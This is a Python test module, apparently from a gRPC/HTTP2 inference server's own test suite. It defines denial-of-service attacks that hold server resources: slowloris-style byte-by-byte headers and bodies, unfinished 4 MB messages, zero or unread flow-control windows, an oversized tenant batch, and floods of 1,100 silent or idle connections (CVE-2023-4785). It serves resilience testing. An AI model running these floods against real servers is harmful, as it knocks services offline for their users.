"""Attacks that hold what the server has: connections, descriptors, memory of requests and answers."""

import itertools

from tests.attacks import frames
from tests.attacks.flood import CLOSE, PAUSE, flood
from tests.attacks.http2_attacks import ACT_STREAM, OPENING

# A name that reflection describes at length.
SYMBOL = b"inference.GRPCInferenceService"
REFLECTION_REQUEST = frames.framed(b"\x22" + bytes([len(SYMBOL)]) + SYMBOL)


def call_headers(path, stream=1, *more):
    """Returns the HEADERS frame of a call."""
    return frames.frame(frames.HEADERS, frames.request(path, *more), frames.END_HEADERS, stream)


def byte_by_byte(data):
    """Sends data one byte at a time, with pauses."""
    for i in range(len(data)):
        yield data[i : i + 1]
        yield PAUSE


def slow_headers(address, seconds):
    """Sends the preface and a header block byte by byte, on 400 connections."""
    data = OPENING + frames.frame(frames.HEADERS, frames.request(ACT_STREAM) * 20, stream=1)
    return flood(address, seconds, lambda: byte_by_byte(data), connections=400)


def slow_body(address, seconds):
    """Sends messages in DATA frames of one byte, on 100 calls of 10 connections."""

    def script():
        yield OPENING + b"".join(call_headers(frames.REFLECTION, 2 * i + 1) for i in range(100))
        prefix = frames.framed(b"x" * 4_000_000)[:5]
        for byte in itertools.chain(prefix, itertools.repeat(0)):
            one = bytes([byte])
            yield b"".join(frames.frame(frames.DATA, one, stream=2 * i + 1) for i in range(100))
            yield PAUSE

    return flood(address, seconds, script, connections=10)


def unfinished_messages(address, seconds):
    """Sends all of a message of 4 MB but its last byte, on 100 calls of 32 connections, and waits."""
    body = frames.framed(b"x" * 4_000_000)[:-1]
    piece = 16_000

    def script():
        yield OPENING
        for stream in frames.streams(0, 100):
            yield call_headers(frames.REFLECTION, stream)
            for start in range(0, len(body), piece):
                yield frames.frame(frames.DATA, body[start : start + piece], stream=stream)

    return flood(address, seconds, script, connections=32)


def many_answers(opening):
    """Yields what asks for many answers on 100 calls of a connection."""
    yield opening
    yield b"".join(call_headers(frames.REFLECTION, stream) for stream in frames.streams(0, 100))
    requests = REFLECTION_REQUEST * 100
    while True:
        yield b"".join(
            frames.frame(frames.DATA, requests, stream=stream)
            for stream in frames.streams(0, 100)
        )


def zero_window(address, seconds):
    """Asks for many answers on 100 calls of 20 connections, with a window that lets none out."""
    opening = frames.PREFACE + frames.settings(initial_window_size=0)
    return flood(address, seconds, lambda: many_answers(opening), connections=20)


def no_reader(address, seconds):
    """Asks for many answers with wide windows, and reads nothing, on 20 connections."""
    opening = OPENING + frames.settings(initial_window_size=(1 << 31) - 1)
    return flood(address, seconds, lambda: many_answers(opening), connections=20, read=False)


def no_reader_of_a_tenant(address, seconds):
    """As a tenant: asks for answers of 40 MB with requests of 4 MB, and reads nothing, on 8 connections."""
    batch = frames.framed(b"\n\x03\n\x01x" * 800_000)  # ActBatchRequest of 800,000 unknown sessions
    piece = 16_000
    token = ("authorization", "Bearer agent")

    def script():
        yield OPENING + frames.settings(initial_window_size=(1 << 31) - 1)
        for stream in frames.streams(0, 100):
            yield call_headers(frames.POLICY + "ActBatch", stream, token)
            for start in range(0, len(batch), piece):
                flags = frames.END_STREAM if start + piece >= len(batch) else 0
                yield frames.frame(frames.DATA, batch[start : start + piece], flags, stream)

    return flood(address, seconds, script, connections=8, read=False)


def silent_connections(address, seconds):
    """Holds 1,100 connections that say nothing (CVE-2023-4785)."""
    return flood(address, seconds, lambda: iter([]), connections=1100)


def idle_connections(address, seconds):
    """Holds 1,100 connections that have sent the preface and one call."""
    return flood(
        address, seconds, lambda: iter([OPENING + call_headers(ACT_STREAM)]), connections=1100
    )


def connections_that_come_and_go(address, seconds):
    """Connects, sends the preface and closes, as often as the server accepts."""
    return flood(address, seconds, lambda: iter([OPENING, CLOSE]), connections=50)
